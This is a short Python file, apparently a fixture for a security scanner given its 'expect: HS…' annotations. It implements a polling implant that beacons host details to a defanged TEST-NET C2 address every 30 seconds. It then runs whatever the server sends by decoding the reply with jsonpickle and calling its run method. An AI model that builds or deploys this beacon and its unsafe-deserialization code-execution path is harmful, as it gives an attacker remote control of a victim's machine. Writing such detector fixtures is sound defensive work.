# A polling implant that receives its tasks as jsonpickle documents: decoding
# them rebuilds arbitrary objects chosen by the server. Defanged: TEST-NET.
import platform
import time
import uuid

import jsonpickle
import requests

C2 = "http://203.0.113.14:8637/api/task"
ID = uuid.uuid4().hex


def poll():
    while True:
        try:
            r = requests.post(C2, json={"id": ID, "os": platform.system()}, timeout=60)  # expect: HS118 high
            task = jsonpickle.decode(r.text)  # expect: HS112 critical
            if hasattr(task, "run"):
                task.run()
        except Exception:
            pass
        time.sleep(30)


if __name__ == "__main__":
    poll()
